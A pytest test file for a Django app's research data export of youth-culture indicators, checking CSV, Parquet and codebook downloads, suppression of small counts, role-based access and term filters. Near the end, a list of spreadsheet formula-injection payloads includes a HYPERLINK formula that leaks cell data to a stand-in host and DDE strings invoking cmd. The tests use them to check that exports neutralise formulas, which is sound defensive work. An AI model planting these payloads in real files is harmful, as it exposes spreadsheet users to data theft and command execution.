import csv
import dataclasses
import io
import json

import polars as pl
import pytest

from ungkultur.indicators import research
from ungkultur.indicators.definitions import INDICATORS
from ungkultur.indicators.models import IndicatorValue
from ungkultur.indicators.tests.dashboard_data import arendal_values

pytestmark = pytest.mark.django_db


@pytest.fixture
def values(personas):
    arendal_values(personas.arendal)
    # A suppressed cell that still carries its raw counts must not leak them either.
    IndicatorValue.objects.filter(suppressed=True).update(numerator=3, denominator=4, value=75)


def _rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_researcher_downloads_every_value_as_csv_with_suppression(client, personas, values):
    client.force_login(personas.researcher)
    response = client.get("/nasjonalt/indikatorer/data/indikatorer.csv")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="ungkultur-indikatorer.csv"'
    rows = _rows(response)
    assert len(rows) == IndicatorValue.objects.count() == 9
    assert "n" not in rows[0]
    total = next(r for r in rows if r["key"] == "participation.all" and r["term"] == "2025V")
    assert (total["municipality_code"], total["value"], total["numerator"]) == (
        "4203",
        "23.4",
        "117.0",
    )
    hidden = [r for r in rows if r["suppressed"] == "true"]
    assert len(hidden) == 2
    assert all(r["value"] == r["numerator"] == r["denominator"] == "" for r in hidden)


def test_parquet_holds_the_same_rows(client, personas, values):
    client.force_login(personas.coordinator)
    response = client.get("/nasjonalt/indikatorer/data/indikatorer.parquet")
    assert response.status_code == 200
    frame = pl.read_parquet(io.BytesIO(response.content))
    assert frame.height == 9
    assert frame.filter(pl.col("suppressed"))["value"].null_count() == 2
    assert frame.filter(pl.col("suppressed"))["numerator"].null_count() == 2
    csv_rows = _rows(client.get("/nasjonalt/indikatorer/data/indikatorer.csv"))
    assert [r["key"] for r in csv_rows] == frame["key"].to_list()


def test_the_codebook_describes_every_indicator_and_column(client, personas):
    client.force_login(personas.researcher)
    book = json.loads(client.get("/nasjonalt/indikatorer/data/kodebok.json").content)
    assert [i["key"] for i in book["indicators"]] == [i.key for i in INDICATORS]
    dropout = next(i for i in book["indicators"] if i["key"] == "dropout.kulturskole")
    assert dropout["unit"] == "percent"
    assert [b["dimension"] for b in dropout["breakdowns"]] == [
        "age",
        "gender",
        "subject_area",
        "programme",
    ]
    assert {c["name"] for c in book["columns"]} >= {"value", "suppressed", "breakdown"}
    rows = _rows(client.get("/nasjonalt/indikatorer/data/kodebok.csv"))
    assert len(rows) == len(INDICATORS)
    assert rows[0]["definition"]


def test_the_download_page_links_every_file(client, personas):
    client.force_login(personas.researcher)
    text = client.get("/nasjonalt/indikatorer/data/").content.decode()
    for path in ("indikatorer.csv", "indikatorer.parquet", "kodebok.csv", "kodebok.json"):
        assert f"/nasjonalt/indikatorer/data/{path}" in text


@pytest.mark.parametrize("fmt", ["xlsx", "sav"])
def test_an_unknown_format_is_404(client, personas, fmt):
    client.force_login(personas.researcher)
    assert client.get(f"/nasjonalt/indikatorer/data/indikatorer.{fmt}").status_code == 404
    assert client.get(f"/nasjonalt/indikatorer/data/kodebok.{fmt}").status_code == 404


@pytest.mark.parametrize("persona", ["leader_a", "teacher_a", "youth_a"])
def test_municipal_roles_get_403(client, personas, values, persona):
    client.force_login(getattr(personas, persona))
    assert client.get("/nasjonalt/indikatorer/data/indikatorer.csv").status_code == 403
    assert client.get("/nasjonalt/indikatorer/data/").status_code == 403


def test_post_is_not_allowed(client, personas):
    client.force_login(personas.researcher)
    assert client.post("/nasjonalt/indikatorer/data/indikatorer.csv").status_code == 405


def test_the_download_runs_a_fixed_number_of_queries(
    client, personas, values, django_assert_max_num_queries
):
    client.force_login(personas.researcher)
    # session, user, national roles, memberships, unit staff, municipalities, the values
    with django_assert_max_num_queries(7):
        client.get("/nasjonalt/indikatorer/data/indikatorer.csv")


def test_one_term_can_be_downloaded_alone(client, personas, values):
    client.force_login(personas.researcher)
    response = client.get("/nasjonalt/indikatorer/data/indikatorer.csv", {"term": "2024H"})
    assert response["Content-Disposition"].endswith('ungkultur-indikatorer-2024H.csv"')
    rows = _rows(response)
    assert {r["term"] for r in rows} == {"2024H"} and len(rows) == 2
    page = client.get("/nasjonalt/indikatorer/data/").content.decode()
    assert "/nasjonalt/indikatorer/data/indikatorer.parquet?term=2024H" in page


def test_a_bad_term_answers_400_in_norwegian(client, personas, values):
    client.force_login(personas.researcher)
    response = client.get("/nasjonalt/indikatorer/data/indikatorer.csv", {"term": "2024"})
    assert response.status_code == 400
    assert "Ukjent semester «2024»" in response.content.decode()


# Text a spreadsheet would run as a formula (OWASP's list).
ATTACKS = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_csv_makes_text_that_would_start_a_formula_inert(client, personas, values):
    personas.arendal.name = ATTACKS[0]
    personas.arendal.save(update_fields=["name"])
    stored = list(IndicatorValue.objects.filter(suppressed=False).order_by("pk")[: len(ATTACKS)])
    for value, text in zip(stored, ATTACKS, strict=True):
        value.breakdown = text
        value.value = -3.5
        value.save(update_fields=["breakdown", "value"])
    client.force_login(personas.researcher)
    text = client.get("/nasjonalt/indikatorer/data/indikatorer.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["municipality_name"] for r in rows} == {"'" + ATTACKS[0]}
    assert {"'" + attack for attack in ATTACKS} <= {r["breakdown"] for r in rows}
    # A number is a number, written unquoted; text is quoted (Excel in Norway splits on ";").
    assert sum(r["value"] == "-3.5" for r in rows) == len(ATTACKS)
    assert ",-3.5," in text and "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in text


def test_the_codebook_csv_makes_text_that_would_start_a_formula_inert(
    client, personas, monkeypatch
):
    first, *rest = research.INDICATORS
    monkeypatch.setattr(
        research, "INDICATORS", [dataclasses.replace(first, definition=ATTACKS[3]), *rest]
    )
    client.force_login(personas.researcher)
    rows = _rows(client.get("/nasjonalt/indikatorer/data/kodebok.csv"))
    assert rows[0]["definition"] == "'" + ATTACKS[3]
